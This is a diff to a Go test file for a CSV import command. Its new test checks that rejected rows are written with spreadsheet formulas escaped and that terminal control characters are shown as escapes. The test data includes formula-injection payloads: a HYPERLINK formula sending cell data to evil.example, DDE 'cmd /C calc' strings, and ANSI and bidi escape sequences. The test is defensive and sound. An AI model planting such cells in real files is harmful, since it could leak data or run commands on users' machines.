@@ -123,10 +123,10 @@ func TestImportCommandBadRows(t *testing.T) {
 	require.Equal(t, exitFailure, got.code)
 	require.Empty(t, got.stdout)
 	require.Equal(t, "importing employers: 6 of 7 employers (85%)\n"+
-		"row  column     value               reason\n"+
-		"5    uscc       "+e[0]+"  duplicate: row 2 has the same uscc\n"+
-		"6    name                           required\n"+
-		"7    employees  x                   not a whole number\n"+
+		"row  column  value               reason\n"+
+		"5    uscc    "+e[0]+"  duplicate: row 2 has the same uscc\n"+
+		"6    name                        required\n"+
+		"7    name    多行\\n名称              character '\\n' at byte 6 is not allowed in a name\n"+
 		"laborcredit: nothing imported: 3 of 6 rows invalid; first: row 5, column uscc \""+e[0]+"\": duplicate: row 2 has the same uscc\n",
 		got.stderr)
 	db, err := ratings.Open(context.Background(), url)
@@ -197,4 +197,56 @@ func TestImportCommandSkipInvalid(t *testing.T) {
 	require.Equal(t, "\ufeffrow,reason,投诉编号,统一社会信用代码,受理日期\n"+
 		"3,\"统一社会信用代码: no employer has this code, and it is not a valid unified social credit code: check character is 'X', want 'U'\",TS-2,91420102MA0000000X,2026-02-02\n",
 		readFile(t, rejects))
+}
+
+// The rejects file escapes every cell a spreadsheet would run as a
+// formula, and the table on stderr shows control characters as escapes.
+func TestImportCommandRejectsAreInert(t *testing.T) {
+	t.Parallel()
+	url := ratingstest.SQLiteURL(t)
+	csv, e := importTestEmployers(t)
+	got := runCLI(t, "", "import", "employers", importTestFile(t, "employers.csv", csv), "--db", url)
+	require.Equal(t, exitOK, got.code, got.stderr)
+	tests := []struct {
+		name, cell, want string
+	}{
+		{"equals", `=HYPERLINK("http://evil.example/?"&A1,"click")`, `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`},
+		{"plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+		{"minus", "-2+3", "'-2+3"},
+		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+		{"tab, trimmed", "\t=1+1", "'=1+1"},
+		{"carriage return, trimmed", "\r=1+1", "'=1+1"},
+		{"full-width equals", "＝1+1", "'＝1+1"},
+		{"plain", "TS-9", "TS-9"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			// The cell is the complaint number of a row whose employer is
+			// unknown, so the row is rejected and copied.
+			file := importTestFile(t, "complaints.csv", "complaint_no,uscc,received\n"+
+				"TS-1,"+e[0]+",2026-02-01\n"+
+				csvQuote(tt.cell)+","+validCode(t, "420102", 798)+",2026-02-01\n")
+			got := runCLI(t, "", "import", "complaints", file, "--skip-invalid", "--db", url)
+			rejects := readFile(t, file+".rejected.csv")
+			require.Equal(t, exitOK, got.code, got.stderr)
+			require.Equal(t, "\ufeffrow,reason,complaint_no,uscc,received\n"+
+				"3,uscc: no employer with this code is registered (import employers first),"+tt.want+","+validCode(t, "420102", 798)+",2026-02-01\n",
+				rejects)
+		})
+	}
+
+	// The table of rejected rows on stderr keeps escape sequences out of
+	// the terminal.
+	file := importTestFile(t, "complaints.csv", "complaint_no,uscc,received\n\"TS-\x1b[2J\u202e1\","+validCode(t, "420102", 797)+",2026-02-01\n")
+	got = runCLI(t, "", "import", "complaints", file, "--db", url)
+	require.NotEqual(t, exitOK, got.code)
+	require.NotContains(t, got.stderr, "\x1b")
+	require.NotContains(t, got.stderr, "\u202e")
+	require.Contains(t, got.stderr, `TS-\x1b[2J\u202e1`)
+}
+
+// csvQuote quotes a CSV field.
+func csvQuote(s string) string {
+	return `"` + strings.ReplaceAll(s, `"`, `""`) + `"`
 }
